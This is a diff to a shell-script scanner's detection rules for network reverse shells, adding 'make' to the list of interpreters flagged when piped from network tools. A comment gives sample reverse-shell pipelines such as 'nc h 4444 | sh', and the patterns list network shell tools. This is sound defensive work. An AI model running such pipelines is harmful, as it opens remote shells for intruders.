@@ -52,7 +52,7 @@
 
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
 ((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sink) (compound_statement (command) @sink)] @sink) @finding
- (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript|g?make) -")
  (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#set! id "sh-network-shell")
  (#set! severity "high")
@@ -63,7 +63,7 @@
 ((pipeline
    [(command) (redirected_statement) (redirected_statement body: (pipeline (command) @sink))] @sink
    (_) @dst) @finding
- (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript|g?make) -")
  (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
  (#set! id "sh-network-shell")
  (#set! severity "high")
